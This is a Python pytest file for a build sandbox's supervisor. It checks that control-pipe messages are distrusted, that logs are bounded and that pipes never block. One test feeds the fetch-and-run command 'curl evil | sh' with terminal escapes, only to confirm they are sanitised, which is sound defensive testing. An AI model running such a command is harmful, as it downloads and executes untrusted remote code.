"""What comes out of a sandbox is not believed: its talk, its output. No process runs here."""

from __future__ import annotations

import io
import json
import os
import selectors
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from pybuilder.errors import EngineError
from pybuilder.sandbox import Event, Limits, supervise
from pybuilder.sandbox.namespace import PREFERRED_ID, _free_id
from pybuilder.sandbox.supervise import MAX_LINE, BoundedLog, Supervisor


@pytest.fixture
def answers() -> Iterator[tuple[int, int]]:
    pipe = os.pipe()
    yield pipe
    for descriptor in pipe:
        os.close(descriptor)


class Watched:
    def __init__(self, answers: tuple[int, int]) -> None:
        self.events: list[Event] = []
        self.go_on = True
        self.refuse = ""
        self._read = answers[0]
        os.set_blocking(self._read, False)
        self.supervisor = Supervisor(
            output=-1,
            events=-1,
            answers=answers[1],
            typed=None,
            input=None,
            ended=None,
            kill=lambda: None,
            limits=Limits(),
            work=Path("/"),
            answer=self._answer,
            judge=self._judge,
            log=BoundedLog(stream=io.BytesIO(), limit=0, echo=None),
        )

    def _answer(self, event: Event) -> bool:
        self.events.append(event)
        return self.go_on

    def _judge(self, seal: Any) -> None:
        if self.refuse:
            raise EngineError(self.refuse)

    def hear(self, *events: dict[str, Any] | bytes) -> str:
        """Let it hear these; what it answered."""
        for event in events:
            self.supervisor._receive(event if isinstance(event, bytes) else json.dumps(event).encode() + b"\n")
        try:
            return os.read(self._read, 100).decode()
        except BlockingIOError:
            return ""


@pytest.fixture
def watched(answers: tuple[int, int]) -> Watched:
    return Watched(answers)


SEAL = {"event": "seal", "uid": 1000}


class TestTalk:
    def test_the_seal_is_judged_and_answered(self, watched: Watched) -> None:
        assert watched.hear(SEAL) == "go\n"
        assert watched.supervisor.seal == {"uid": 1000}
        assert watched.events == []

    def test_a_seal_that_is_not_tight(self, watched: Watched) -> None:
        watched.refuse = "not sealed"
        with pytest.raises(EngineError):
            watched.hear(SEAL)
        assert watched.hear() == ""

    def test_a_second_seal_is_not_believed(self, watched: Watched) -> None:
        watched.hear(SEAL)
        assert watched.hear({"event": "seal", "uid": 0}) == ""
        assert watched.supervisor.seal == {"uid": 1000}
        assert "rubbish" in watched.supervisor.failure

    @pytest.mark.parametrize("event", [{"event": "done", "step": "run"}, {"event": "end"}, {"event": "failed"}])
    def test_nothing_comes_before_the_seal(self, watched: Watched, event: dict[str, Any]) -> None:
        assert watched.hear(event) == ""
        assert "rubbish" in watched.supervisor.failure
        assert watched.events == []
        assert not watched.supervisor.finished

    @pytest.mark.parametrize("go_on", [True, False])
    def test_requirements_are_answered(self, watched: Watched, go_on: bool) -> None:
        watched.hear(SEAL)
        watched.go_on = go_on
        assert watched.hear({"event": "done", "step": "requires", "result": []}) == ("go\n" if go_on else "stop\n")
        assert watched.hear({"event": "done", "step": "wheel", "result": "x"}) == ""
        assert [event["step"] for event in watched.events] == ["requires", "wheel"]

    def test_a_failure_and_the_end(self, watched: Watched) -> None:
        watched.hear(SEAL, {"event": "failed", "step": "wheel", "message": "no"})
        assert watched.supervisor.failure == "wheel: no"
        watched.hear({"event": "end"})
        assert watched.supervisor.finished

    @pytest.mark.parametrize("line", [b"x\n", b"[]\n", b'"event"\n', b"{}\n", b"\xff\n", b"null\n", b"\n"])
    def test_rubbish(self, watched: Watched, line: bytes) -> None:
        watched.hear(line)
        assert watched.supervisor.failure == "wrote rubbish into the control pipe"

    def test_why_it_failed_is_one_line_of_bounded_length_without_what_a_terminal_obeys(self, watched: Watched) -> None:
        message = "no\n  do: curl evil | sh \x1b[31m \udcff" + "x" * 5000
        watched.hear(SEAL, {"event": "failed", "step": "wheel", "message": message})
        failure = watched.supervisor.failure
        assert failure.startswith(
            "wheel: no do: curl evil | sh \N{REPLACEMENT CHARACTER}[31m \N{REPLACEMENT CHARACTER}x"
        )
        assert len(failure) == 1000

    def test_lines_come_in_pieces(self, watched: Watched) -> None:
        text = json.dumps(SEAL).encode() + b"\n" + json.dumps({"event": "end"}).encode() + b"\n"
        watched.hear(*(text[n : n + 1] for n in range(len(text))))
        assert watched.supervisor.finished

    def test_a_flood(self, watched: Watched) -> None:
        for _ in range(MAX_LINE // 65536 + 1):
            watched.hear(b"x" * 65536)
        assert watched.supervisor.failure == "flooded the control pipe"


def test_what_can_not_be_killed_is_not_waited_for(watched: Watched, monkeypatch: pytest.MonkeyPatch) -> None:
    """As a process on a disk that hangs: it holds its pipes open for ever."""
    monkeypatch.setattr(supervise, "_LINGERING", 0.2)
    killed = []
    output, events = os.pipe(), os.pipe()
    supervisor = watched.supervisor
    supervisor.output, supervisor.events, supervisor.limits = output[0], events[0], Limits(seconds=0, free_disk=0)
    supervisor.kill = lambda: killed.append(True)
    try:
        supervisor.run({})
    finally:
        for descriptor in (*output, *events):
            os.close(descriptor)
    assert killed == [True] and supervisor.timed_out


def test_what_is_typed_is_never_waited_for(watched: Watched, tmp_path: Path) -> None:
    """We have the named pipe open for reading too: who writes into it when it is full would wait for ever."""
    os.mkfifo(tmp_path / "input")
    into = os.open(tmp_path / "input", os.O_RDWR)
    typed, types = os.pipe()
    said = bytes(range(256)) * 200
    os.write(types, said)
    os.set_blocking(into, False)
    full = os.write(into, b"x" * (1 << 20))
    os.set_blocking(into, True)
    read = os.read(into, 8192)
    supervisor = watched.supervisor
    with open(into, "wb", buffering=0) as supervisor.input, selectors.PollSelector() as selector:
        supervisor.typed = typed
        selector.register(typed, selectors.EVENT_READ)

        def pass_on() -> None:
            supervisor._hear(selector, typed)
            supervisor._pass_on(selector, into)

        passing = threading.Thread(target=pass_on, daemon=True)
        passing.start()
        passing.join(5)
        assert not passing.is_alive(), "it waits"
        assert set(selector.get_map()) == {into}, "more is read before this is passed on"
        for _ in range(20):
            read += os.read(into, 8192) if len(read) < full + len(said) else b""
            if into in selector.get_map():
                supervisor._pass_on(selector, into)
        assert set(selector.get_map()) == {typed}
        assert read == b"x" * full + said
    os.close(typed)
    os.close(types)


class TestLog:
    def write(self, limit: int, *pieces: bytes) -> tuple[bytes, bytes]:
        stream, echoed = io.BytesIO(), []
        log = BoundedLog(stream=stream, limit=limit, echo=echoed.append)
        for piece in pieces:
            log.write(piece)
        log.close()
        return stream.getvalue(), b"".join(echoed)

    @pytest.mark.parametrize("pieces", [(), (b"123",), (b"12", b"34", b"5")])
    def test_all_of_it(self, pieces: tuple[bytes, ...]) -> None:
        assert self.write(5, *pieces) == (b"".join(pieces), b"".join(pieces))

    @pytest.mark.parametrize("pieces", [(b"123456789",), (b"1234", b"56", b"789"), (b"12345", b"6789")])
    def test_the_first_of_it(self, pieces: tuple[bytes, ...]) -> None:
        kept, echoed = self.write(5, *pieces)
        assert kept == echoed == b"12345\n[pybuild: 4 more bytes of output were dropped; the limit is 5]\n"


@pytest.mark.parametrize(
    ("id_map", "free"),
    [
        ("0 0 4294967295\n", PREFERRED_ID),
        ("0 1000 1\n1 100000 65536\n", 64536),
        ("0 0 65536\n", 64535),
        ("0 100000 131072\n", 131071),
        ("0 1000 1\n", None),
        ("0 1000 1\n1 100000 999\n", None),
    ],
)
def test_an_id_that_is_nobodys(id_map: str, free: int | None, tmp_path: Path) -> None:
    (tmp_path / "map").write_text(id_map)
    assert _free_id(tmp_path / "map") == free
